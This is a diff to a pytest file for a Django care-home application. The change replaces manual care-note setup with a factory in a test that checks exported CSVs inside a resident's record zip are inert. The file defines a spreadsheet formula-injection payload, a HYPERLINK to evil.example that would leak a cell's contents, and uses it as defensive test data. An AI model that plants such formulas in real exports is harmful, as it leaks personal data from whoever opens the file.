@@ -10,13 +10,13 @@ import io
 import zipfile
 
 import pytest
-from django.utils import timezone
 from django.utils.translation import override
 
 from backoffice import gdpr, imports
 from carehub.access_log import log_access
 from carehub.models import AccessLog
-from coordination.models import CareNote, Resident, Target
+from coordination.models import Resident
+from tests.coordination.factories import CareNoteFactory
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1;"Open")'
 
@@ -43,18 +43,7 @@ def test_search_terms_in_the_access_history_csv_are_inert(resident_a, staff_a):
 
 
 def test_a_care_note_in_the_record_zip_is_inert(resident_a, staff_a):
-    target = Target.objects.get_or_create(code="csv-pain", defaults={"name_fr": "Douleur", "name_en": "Pain"})[0]
-    CareNote.objects.create(
-        resident=resident_a,
-        site=resident_a.site,
-        unit=resident_a.unit,
-        author=staff_a,
-        target=target,
-        data=HYPERLINK,
-        action="Antalgique donné",
-        shift="morning",
-        shift_date=timezone.localdate(),
-    )
+    CareNoteFactory(resident=resident_a, author=staff_a, data=HYPERLINK)
     with override("en"):
         archive = zipfile.ZipFile(gdpr.resident_record_zip(resident=resident_a))
     rows = _rows(archive.read("transmissions.csv"))
